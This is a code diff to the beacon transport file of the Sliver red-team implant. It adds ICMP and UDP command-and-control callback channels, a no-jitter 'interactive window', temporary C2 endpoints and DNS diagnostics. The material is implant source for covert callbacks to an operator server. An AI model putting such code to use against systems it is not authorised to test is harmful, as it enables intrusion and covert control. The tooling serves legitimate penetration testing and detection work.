@@ -28,6 +28,7 @@ import (
 
 	insecureRand "math/rand"
 	"net/url"
+	"sync"
 	"time"
 
 	// {{if .Config.MTLSc2Enabled}}
@@ -42,7 +43,6 @@ import (
 	// {{end}}
 
 	// {{if .Config.WGc2Enabled}}
-	"errors"
 	"net"
 
 	"github.com/bishopfox/sliver/implant/sliver/transports/wireguard"
@@ -50,7 +50,7 @@ import (
 
 	// {{end}}
 
-	// {{if or .Config.MTLSc2Enabled .Config.WGc2Enabled}}
+	// {{if .Config.MTLSc2Enabled}}
 	"strconv"
 	// {{end}}
 
@@ -59,13 +59,44 @@ import (
 	"github.com/bishopfox/sliver/implant/sliver/transports/dnsclient"
 	// {{end}}
 
+	// {{if .Config.ICMPc2Enabled}}
+	"github.com/bishopfox/sliver/implant/sliver/transports/icmpclient"
+	// {{end}}
+
+	// {{if .Config.UDPc2Enabled}}
+	"github.com/bishopfox/sliver/implant/sliver/transports/udpclient"
+	// {{end}}
+
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 )
 
 var (
 	_ url.URL
+
+	interactiveMutex    = &sync.Mutex{}
+	interactiveInterval = time.Duration(0)
+	interactiveUntil    = time.Time{}
 )
 
+// SetInteractiveWindow - Check in every interval, without jitter, until the window
+// ends and the beacon reverts to its own interval and jitter
+func SetInteractiveWindow(interval time.Duration, window time.Duration) {
+	interactiveMutex.Lock()
+	defer interactiveMutex.Unlock()
+	interactiveInterval = interval
+	interactiveUntil = time.Now().Add(window)
+}
+
+// interactiveWindow - The interval of the interactive window, if one is open
+func interactiveWindow() (time.Duration, bool) {
+	interactiveMutex.Lock()
+	defer interactiveMutex.Unlock()
+	if interactiveInterval == 0 || time.Now().After(interactiveUntil) {
+		return 0, false
+	}
+	return interactiveInterval, true
+}
+
 type BeaconInit func() error
 type BeaconStart func() error
 type BeaconRecv func() (*pb.Envelope, error)
@@ -84,15 +115,23 @@ type Beacon struct {
 
 	ActiveC2 string
 	ProxyURL string
+
+	DNSDiagnostics *pb.DNSDiagnostics
 }
 
 // Interval - Interval between beacons
 func (b *Beacon) Interval() int64 {
+	if interval, ok := interactiveWindow(); ok {
+		return int64(interval)
+	}
 	return GetInterval()
 }
 
 // Jitter - Jitter between beacons
 func (b *Beacon) Jitter() int64 {
+	if _, ok := interactiveWindow(); ok {
+		return 0
+	}
 	return GetJitter()
 }
 
@@ -113,7 +152,7 @@ func (b *Beacon) Duration() time.Duration {
 }
 
 // StartBeaconLoop - Starts the beacon loop generator
-func StartBeaconLoop(abort <-chan struct{}) <-chan *Beacon {
+func StartBeaconLoop(abort <-chan struct{}, temporaryC2 ...string) <-chan *Beacon {
 	// {{if .Config.Debug}}
 	log.Printf("Starting beacon loop ...")
 	// {{end}}
@@ -122,7 +161,7 @@ func StartBeaconLoop(abort <-chan struct{}) <-chan *Beacon {
 	nextBeacon := make(chan *Beacon)
 
 	innerAbort := make(chan struct{})
-	c2Generator := C2Generator(innerAbort)
+	c2Generator := C2Generator(innerAbort, temporaryC2...)
 
 	go func() {
 		defer close(nextBeacon)
@@ -164,6 +203,18 @@ func StartBeaconLoop(abort <-chan struct{}) <-chan *Beacon {
 				beacon = dnsBeacon(uri)
 				// {{end}} - DNSc2Enabled
 
+			case "icmp":
+				// *** ICMP ***
+				// {{if .Config.ICMPc2Enabled}}
+				beacon = icmpBeacon(uri)
+				// {{end}} - ICMPc2Enabled
+
+			case "udp":
+				// *** UDP ***
+				// {{if .Config.UDPc2Enabled}}
+				beacon = udpBeacon(uri)
+				// {{end}} - UDPc2Enabled
+
 			default:
 				// {{if .Config.Debug}}
 				log.Printf("Unknown c2 protocol %s", uri.Scheme)
@@ -198,7 +249,8 @@ func mtlsBeacon(uri *url.URL) *Beacon {
 			return nil
 		},
 		Start: func() error {
-			conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport))
+			opts := mtls.ParseMTLSOptions(uri)
+			conn, err = mtls.MtlsConnect(uri.Hostname(), uint16(lport), opts.KeepAlive)
 			if err != nil {
 				return err
 			}
@@ -235,11 +287,6 @@ func wgBeacon(uri *url.URL) *Beacon {
 	// {{if .Config.Debug}}
 	log.Printf("Establishing Beacon -> %s", uri.String())
 	// {{end}}
-	lport, err := strconv.Atoi(uri.Port())
-	if err != nil {
-		lport = 53
-	}
-
 	var conn net.Conn
 	var dev *device.Device
 	beacon := &Beacon{
@@ -248,15 +295,11 @@ func wgBeacon(uri *url.URL) *Beacon {
 			return nil
 		},
 		Start: func() error {
-			addrs, err := net.LookupHost(uri.Hostname())
+			endpoints, err := wireguard.Endpoints(uri)
 			if err != nil {
 				return err
 			}
-			if len(addrs) == 0 {
-				return errors.New("{{if .Config.Debug}}Invalid address{{end}}")
-			}
-			hostname := addrs[0]
-			conn, dev, err = wireguard.WGConnect(hostname, uint16(lport))
+			conn, dev, _, err = wireguard.WGConnect(endpoints)
 			if err != nil {
 				return err
 			}
@@ -269,7 +312,7 @@ func wgBeacon(uri *url.URL) *Beacon {
 			return wireguard.WriteEnvelope(conn, envelope)
 		},
 		Close: func() error {
-			err = conn.Close()
+			err := conn.Close()
 			if err != nil {
 				return err
 			}
@@ -339,7 +382,8 @@ func httpBeacon(uri *url.URL) *Beacon {
 func dnsBeacon(uri *url.URL) *Beacon {
 	var client *dnsclient.SliverDNSClient
 	var err error
-	beacon := &Beacon{
+	var beacon *Beacon
+	beacon = &Beacon{
 		ActiveC2: uri.String(),
 		Init: func() error {
 			opts := dnsclient.ParseDNSOptions(uri)
@@ -350,6 +394,7 @@ func dnsBeacon(uri *url.URL) *Beacon {
 				// {{end}}
 				return err
 			}
+			beacon.DNSDiagnostics = client.Diagnostics()
 			return nil
 		},
 		Start: func() error {
@@ -373,4 +418,80 @@ func dnsBeacon(uri *url.URL) *Beacon {
 
 // {{end}} - DNSc2Enabled
 
+// {{if .Config.ICMPc2Enabled}}
+func icmpBeacon(uri *url.URL) *Beacon {
+	var client *icmpclient.SliverICMPClient
+	var err error
+	beacon := &Beacon{
+		ActiveC2: uri.String(),
+		Init: func() error {
+			opts := icmpclient.ParseICMPOptions(uri)
+			client, err = icmpclient.ICMPStartSession(uri.Hostname(), opts)
+			if err != nil {
+				// {{if .Config.Debug}}
+				log.Printf("[beacon] icmp connection error %s", err)
+				// {{end}}
+				return err
+			}
+			return nil
+		},
+		Start: func() error {
+			return nil
+		},
+		Recv: func() (*pb.Envelope, error) {
+			return client.ReadEnvelope()
+		},
+		Send: func(envelope *pb.Envelope) error {
+			return client.WriteEnvelope(envelope)
+		},
+		Close: func() error {
+			return nil
+		},
+		Cleanup: func() error {
+			return client.CloseSession()
+		},
+	}
+	return beacon
+}
+
+// {{end}} - ICMPc2Enabled
+
+// {{if .Config.UDPc2Enabled}}
+func udpBeacon(uri *url.URL) *Beacon {
+	var client *udpclient.SliverUDPClient
+	var err error
+	beacon := &Beacon{
+		ActiveC2: uri.String(),
+		Init: func() error {
+			opts := udpclient.ParseUDPOptions(uri)
+			client, err = udpclient.UDPStartSession(uri.Host, opts)
+			if err != nil {
+				// {{if .Config.Debug}}
+				log.Printf("[beacon] udp connection error %s", err)
+				// {{end}}
+				return err
+			}
+			return nil
+		},
+		Start: func() error {
+			return nil
+		},
+		Recv: func() (*pb.Envelope, error) {
+			return client.ReadEnvelope()
+		},
+		Send: func(envelope *pb.Envelope) error {
+			return client.WriteEnvelope(envelope)
+		},
+		Close: func() error {
+			return nil
+		},
+		Cleanup: func() error {
+			return client.CloseSession()
+		},
+	}
+	return beacon
+}
+
+// {{end}} - UDPc2Enabled
+
 // {{end}} - IsBeacon